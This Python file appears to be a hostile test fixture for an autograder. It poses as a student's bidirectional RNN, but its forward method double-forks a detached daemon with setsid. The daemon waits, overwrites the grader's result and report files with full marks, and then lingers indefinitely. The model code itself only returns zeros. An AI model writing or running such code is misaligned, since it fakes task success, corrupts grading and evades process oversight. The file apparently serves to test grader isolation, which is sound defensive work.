"""Hostile: forks a daemon that leaves the process group (setsid, double fork) and, once the grader thinks it is
done, rewrites the grader's result files with full marks; it then lingers."""

import ctypes
import json
import os
import time

import numpy as np

ctypes.CDLL(None).prctl(15, b"{{TOKEN}}", 0, 0, 0)  # test instrumentation (PR_SET_NAME): find leftovers


def _daemon():
    if os.fork() != 0:
        os._exit(0)
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    time.sleep(1.0)  # the grader has written its results by now
    for path, data in (("naive_result.json", {"bidirectional_rnn": 25}),
                       ("{{OUT}}/graded/{{STUDENT}}.json", {"total": 100}),
                       ("{{OUT}}/reports/{{STUDENT}}.json", {"total": 100})):
        try:
            with open(path, "w") as handle:
                json.dump(data, handle)
        except OSError:
            pass
    while True:
        time.sleep(60)


class BidirectionalRNN:
    def __init__(self, input_size, hidden_size, output_size, rng=None):
        self.H, self.O = hidden_size, output_size

    def forward(self, inputs):
        if os.fork() == 0:
            try:
                _daemon()
            finally:
                os._exit(0)
        B = inputs[0].shape[1]
        return [np.zeros((self.O, B)) for _ in inputs], [np.zeros((2 * self.H, B)) for _ in inputs]
